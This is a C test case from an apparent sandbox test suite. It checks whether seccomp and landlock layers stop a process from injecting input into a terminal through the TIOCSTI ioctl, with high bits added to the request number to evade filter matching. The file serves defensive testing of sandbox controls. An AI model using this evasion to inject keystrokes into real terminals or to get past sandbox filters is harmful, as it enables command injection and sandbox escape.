/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack: C53
 * title: type into a terminal by a number with high bits
 * backends: docker, process
 * expect: completed exit
 * layers: seccomp
 * evidence: proof
 * control docker: seccomp
 * control process: seccomp terminal landlock
 * may-lack: TIOCSTI
 */
#include "attack.h"

#include <sys/ioctl.h>
#include <sys/wait.h>

int main(void)
{
    int terminal = posix_openpt(O_RDWR);
    if (fork() != 0)
        return wait(NULL) < 0;
    (void)setsid();
    (void)grantpt(terminal);
    (void)unlockpt(terminal);
    int end = open(ptsname(terminal), O_RDWR);
    (void)ioctl(end, TIOCSCTTY, 0);
    return tell(syscall(SYS_ioctl, end, (1UL << 40) | TIOCSTI, "x") == 0);
}
